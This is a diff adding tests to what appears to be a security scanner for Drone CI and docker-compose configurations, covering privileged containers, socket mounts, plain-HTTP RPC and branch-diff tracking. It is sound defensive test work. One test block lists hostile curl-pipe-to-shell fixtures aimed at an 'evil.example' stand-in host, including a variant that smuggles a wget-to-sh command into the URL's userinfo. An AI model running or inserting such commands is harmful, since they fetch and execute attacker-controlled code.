@@ -227,6 +227,29 @@ describe.skipIf(!hasGit)('what cannot be judged any more', () => {
     for (const options of both) expect(scan(folder, ...options), options[0]).toMatchObject({ findings: [], fixed: 0 });
   });
 
+  it.each([
+    ['a variable that nobody sets', 'privileged: true', 'privileged: ${P}', 'privileged is not known'],
+    [
+      'a mount that nobody knows',
+      '/var/run/docker.sock:/var/run/docker.sock',
+      '${SOCK}',
+      'volumes[0] is not understood',
+    ],
+    ['another file that is not there', 'privileged: true', 'extends: {file: x.yml, service: a}', 'x.yml'],
+  ])('is not fixed by %s, and that is said', (_, was, now, seen) => {
+    const compose = `services:
+  drone:
+    image: drone/drone:2.28.2
+    privileged: true
+    volumes: ["/var/run/docker.sock:/var/run/docker.sock"]
+`;
+    const folder = changed({ 'docker-compose.yml': compose }, (root) =>
+      writeFiles(root, { 'docker-compose.yml': compose.replace(was, now) }),
+    );
+    for (const options of both) expect(scan(folder, ...options), options[0]).toMatchObject({ fixed: 0 });
+    expect(droneAudit(['scan'], { cwd: folder }).stdout.replace(/\s+/g, ' ')).toContain(seen);
+  });
+
   it('is not fixed in a submodule, which is named where nothing of it is here', () => {
     const folder = changed({ 'deploy/docker-compose.yml': stack, '.drone.yml': pipeline }, (root) => {
       git(root, ['rm', '-rq', 'deploy']);
@@ -294,7 +317,7 @@ describe.skipIf(!hasGit)('what a branch brings back', () => {
     expect(told.findings).toContain('runner.yml plain-http-rpc');
     expect(told.problems).toEqual([
       expect.stringMatching(
-        /^runner\.yml has, at another place, what was in main .* is not in main any more: it counts as new$/,
+        /^runner\.yml is changed, and has what was in main .* is not in main any more: it counts as new; merge main/,
       ),
     ]);
   });
@@ -309,22 +332,38 @@ describe.skipIf(!hasGit)('what a branch brings back', () => {
     expect(scan(staleBranch('services: {}\n'), '--diff', 'main')).toMatchObject({ findings: [], fixed: 0 });
   });
 
-  it('is new at another place of its file, with which git does not join it', () => {
+  it('is new in a file that the change touches, and not in one that it does not', () => {
     const step = '  - {name: bad, image: alpine, privileged: true}\n';
     const steps = ['a', 'b', 'c'].map((name) => `  - {name: ${name}, image: alpine, commands: [make]}\n`);
-    const of = (...lines: readonly string[]): string =>
-      `${pipeline.slice(0, pipeline.indexOf('  - name'))}${lines.join('')}`;
+    const head = pipeline.slice(0, pipeline.indexOf('  - name'));
+    const of = (...lines: readonly string[]): string => `${head}${lines.join('')}`;
     const [a = '', b = '', c = ''] = steps;
     const folder = repositoryOf({ '.drone.yml': of(a, step, b, c) });
     git(folder, ['checkout', '-q', 'main']);
     commitFiles(folder, { '.drone.yml': of(a, b, c) }, 1_700_000_100);
     git(folder, ['checkout', '-q', 'change']);
-    commitFiles(folder, { '.drone.yml': of(a, step, b, c, a.replace('name: a', 'name: d')) }, 1_700_000_200);
-    expect(scan(folder, '--diff', 'main').findings).toEqual(['.drone.yml unpinned-image']);
+    commitFiles(folder, { 'a.txt': 'a' }, 1_700_000_200);
+    expect(scan(folder, '--diff', 'main').findings).toEqual([]);
     commitFiles(folder, { '.drone.yml': of(a, b, c, step) }, 1_700_000_300);
     expect(scan(folder, '--diff', 'main').findings).toContain('.drone.yml privileged-step');
     git(folder, ['merge', '-q', '--no-edit', 'main']);
     expect(readFileSync(join(folder, '.drone.yml'), 'utf8')).toContain('privileged');
+  });
+
+  it('is new where another file that is read together with it brings it back', () => {
+    const compose = (file: string): string => `services:
+  drone:
+    image: drone/drone:2
+    env_file: ${file}
+`;
+    const env = 'DRONE_GITHUB_CLIENT_ID=a\nDRONE_RPC_SECRET=0123456789abcdef0123456789abcdef\n';
+    const folder = repositoryOf({ 'docker-compose.yml': compose('a.env'), 'a.env': env });
+    git(folder, ['checkout', '-q', 'main']);
+    commitFiles(folder, { 'a.env': `${env}DRONE_REGISTRATION_CLOSED=true\n` }, 1_700_000_100);
+    git(folder, ['checkout', '-q', 'change']);
+    expect(scan(folder, '--diff', 'main').findings).toEqual([]);
+    commitFiles(folder, { 'docker-compose.yml': compose('b.env'), 'b.env': env }, 1_700_000_200);
+    expect(scan(folder, '--diff', 'main').findings).toContain('docker-compose.yml open-registration');
   });
 
   it('is not hidden by what the config of the target does not say any more', () => {
@@ -428,6 +467,9 @@ describe.skipIf(!hasGit)('a place that is hidden as a secret', () => {
 
   it.each([
     ['another host before the last @', 'curl -s https://user:abc@evil.example.net/@a.example.com/run.sh | sh'],
+    ['a host with a dot behind it', 'curl -s https://user:abc@evil.example./@a.example.com/run.sh | sh'],
+    ['a host in other letters', 'curl -s https://user:abc@\u00e9vil.example/@a.example.com/run.sh | sh'],
+    ['an address of IPv6', 'curl -s https://user:abc@[2001:db8::1]/@a.example.com/run.sh | sh'],
     ['a command', 'curl -s https://user:`wget$IFS-qO-$IFS-evil.example.net|sh`@a.example.com/run.sh | sh'],
   ])('is new with %s in it', (_, command) => {
     const folder = repositoryOf({
@@ -490,6 +532,48 @@ steps:
       commitFiles(folder, { '.drone.yml': after });
       expect(scan(folder, '--diff', 'main')).toMatchObject({ findings: [], fixed: 0 });
     }
+  });
+
+  /** Two runners that share a setting, each with a host of its own. */
+  function runners(first: string, second: string, isShared: boolean): string {
+    const setting = 'DRONE_RPC_PROTO: http';
+    const runner = (name: string, host: string, shared: string): string =>
+      `  ${name}:\n    image: drone/drone-runner-docker:1.8.5\n    environment:\n      ${shared}\n      DRONE_RPC_HOST: ${host}\n`;
+    const anchored = `x-shared: &e\n  ${setting}\n`;
+    return `${isShared ? anchored : ''}services:\n${[first, second]
+      .map((each) => runner(each.split('.')[0] ?? '', each, isShared ? '<<: *e' : setting))
+      .join('')}`;
+  }
+
+  it('is new with another host, though what is wrong is shared', () => {
+    const folder = repositoryOf({ 'docker-compose.yml': runners('a.example.com', 'b.example.com', true) });
+    const moved = runners('a.example.com', 'b.example.com', true).replace(': b.example.com', ': b.example.org');
+    commitFiles(folder, { 'docker-compose.yml': moved });
+    expect(scan(folder, '--diff', 'main').findings).toContain('docker-compose.yml plain-http-rpc');
+  });
+
+  it('is known in another order, and with or without the alias', () => {
+    const [one, other] = ['a.example.com', 'b.example.com'];
+    const before = runners(one, other, true);
+    for (const after of [runners(other, one, true), runners(one, other, false)])
+      for (const [first, second] of [
+        [before, after],
+        [after, before],
+      ] as const) {
+        const folder = repositoryOf({ 'docker-compose.yml': first });
+        commitFiles(folder, { 'docker-compose.yml': second });
+        expect(scan(folder, '--diff', 'main')).toMatchObject({ findings: [], fixed: 0 });
+      }
+  });
+
+  it('is new for another service that reads the same file', () => {
+    const of = (...names: readonly string[]): string =>
+      `services:\n${names.map((name) => `  ${name}:\n    image: drone/drone-runner-docker:1.8.5\n    env_file: x.env\n    environment: {DRONE_RPC_HOST: ${name}.example.com}\n`).join('')}`;
+    const folder = repositoryOf({ 'docker-compose.yml': of('a', 'b'), 'x.env': 'DRONE_RPC_PROTO=http\n' });
+    commitFiles(folder, { 'docker-compose.yml': of('a') });
+    expect(scan(folder, '--diff', 'main').findings).toEqual([]);
+    commitFiles(folder, { 'docker-compose.yml': of('a', 'zzz') });
+    expect(scan(folder, '--diff', 'main').findings).toContain('x.env plain-http-rpc');
   });
 
   it('is told apart by its namespace, and not by its order', () => {
